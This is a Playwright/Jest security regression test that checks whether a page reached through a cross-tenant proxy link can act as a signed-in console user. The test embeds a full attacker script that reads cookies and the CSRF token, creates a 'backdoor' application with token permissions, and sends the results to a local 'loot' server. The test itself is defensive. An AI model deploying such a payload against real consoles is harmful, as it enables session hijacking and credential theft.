/**
 * Issue 34's critical finding, replayed in Chromium: an operator signed in to tenant V's console clicks one link to
 * tenant A's anonymous proxy (require_auth false, so the link is all it takes). A's destination answers a page whose
 * script reads the console's CSRF cookie, creates an application in V with token rights and sends what it got to A.
 * The page must run nothing as Coffer: V's applications unchanged, nothing sent out, the console session untouched.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { BrowserContext, Page } from 'playwright-core';
import { api, consoleUrl, createTenant, gatewayUrl, type TestTenant } from '@coffer/testing';
import { Destination } from '../proxy/support';
import { launchBrowser } from './browser';

jest.setTimeout(120_000);

describe('one click on a proxy link from a signed-in console', () => {
  let victim: TestTenant;
  let attacker: TestTenant;
  let browser: Awaited<ReturnType<typeof launchBrowser>>;
  let context: BrowserContext;
  let page: Page;
  const dest = new Destination();
  const stolen: string[] = [];
  let drop: http.Server;

  beforeAll(async () => {
    // where the attacker's script sends its loot: plain HTTP on loopback, reachable from the page if it ran
    // it also serves the mail (a page on another site: localhost, not 127.0.0.1) with the link the operator clicks
    drop = http.createServer((req, res) => {
      if (req.url?.startsWith('/mail')) {
        const link = new URL(req.url, 'http://localhost').searchParams.get('link') ?? '';
        res.setHeader('content-type', 'text/html; charset=utf-8');
        res.end(`<!doctype html><title>Mail</title><a id="receipt" href="${link.replace(/"/g, '&quot;')}">See your receipt</a>`);
        return;
      }
      if (req.url?.startsWith('/loot')) stolen.push(req.url);
      res.setHeader('access-control-allow-origin', '*');
      res.end('ok');
    });
    await new Promise<void>((r) => drop.listen(0, '127.0.0.1', () => r()));
    const loot = `http://127.0.0.1:${(drop.address() as AddressInfo).port}/loot`;
    await dest.start();
    dest.behave = (_req, res) => {
      res.setHeader('content-type', 'text/html; charset=utf-8');
      res.end(`<!doctype html><title>Your receipt</title><p>Thanks!</p><script>
        (async () => {
          const send = (what) => fetch(${JSON.stringify(loot)} + '?' + encodeURIComponent(what), { mode: 'no-cors' });
          send('ran cookie=' + document.cookie);
          const csrf = (document.cookie.match(/coffer_console_csrf=([^;]+)/) || [])[1] || '';
          const made = await fetch('/applications', {
            method: 'POST', credentials: 'include',
            headers: { 'content-type': 'application/json', 'x-coffer-csrf': csrf },
            body: JSON.stringify({ name: 'backdoor', type: 'private', permissions: ['token:read', 'token:use'] }),
          });
          send('status=' + made.status + ' body=' + (await made.text()));
        })().catch((e) => fetch(${JSON.stringify(loot)} + '?error=' + encodeURIComponent(String(e)), { mode: 'no-cors' }));
      </script>`);
    };
    victim = await createTenant('one-click-victim');
    attacker = await createTenant('one-click-attacker');
    browser = await launchBrowser();
    context = browser.context;
    context.setDefaultTimeout(60_000);
    page = context.pages()[0] ?? (await context.newPage());
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await dest.stop();
    await new Promise((r) => drop.close(r));
  });

  it("runs no script of the destination's as Coffer: no application created, nothing sent, the console session still signed in", async () => {
    const writer = await attacker.app('private', { permissions: ['token:create'] });
    const proxy = await api('POST', '/proxies', {
      key: attacker.managementKey,
      body: { name: 'receipt', destination_url: dest.url('/receipt'), require_auth: false, application: { id: writer.id } },
    });
    expect(proxy.status).toBe(201);
    const before = (await api('GET', '/applications', { key: victim.managementKey })).body.data.length;

    await page.goto(`${consoleUrl()}/console/`);
    // single sign-on is configured in this suite: the key form is the break-glass path under it
    await page.getByText('Sign in with a management key instead').click();
    await page.getByLabel('Management key').fill(victim.managementKey);
    await page.getByRole('button', { name: 'Sign in', exact: true }).click();
    await page.getByRole('heading', { name: 'Overview' }).waitFor();
    const sessionBefore = (await context.cookies()).find((c) => c.name === 'coffer_console')?.value;
    expect(sessionBefore).toBeDefined();

    // the link: the API origin (the same host name as the console's, another port), the proxy's key in the query,
    // clicked in a mail on another site (so the SameSite=Strict cookies stay behind on that navigation)
    const link = `${gatewayUrl()}/proxy?bt-proxy-key=${proxy.body.key}`;
    const tab = await context.newPage();
    await tab.goto(`http://localhost:${(drop.address() as AddressInfo).port}/mail?link=${encodeURIComponent(link)}`);
    const [res] = await Promise.all([tab.waitForNavigation(), tab.click('#receipt')]);
    expect(res?.status()).toBe(200);
    await tab.getByText('Thanks!').waitFor();
    // time for the script, had it run, to create the application and send its loot
    await new Promise((r) => setTimeout(r, 2_000));
    await tab.close();

    expect(stolen).toEqual([]);
    const after = await api('GET', '/applications', { key: victim.managementKey });
    expect(after.body.data.length).toBe(before);
    expect(after.body.data.map((a: { name: string }) => a.name)).not.toContain('backdoor');
    // the destination never saw the browser's cookies
    expect(dest.last.headers['cookie']).toBeUndefined();
    // the console session is the same one, and still works
    expect((await context.cookies()).find((c) => c.name === 'coffer_console')?.value).toBe(sessionBefore);
    await page.reload();
    await page.getByRole('heading', { name: 'Overview' }).waitFor();
  });
});
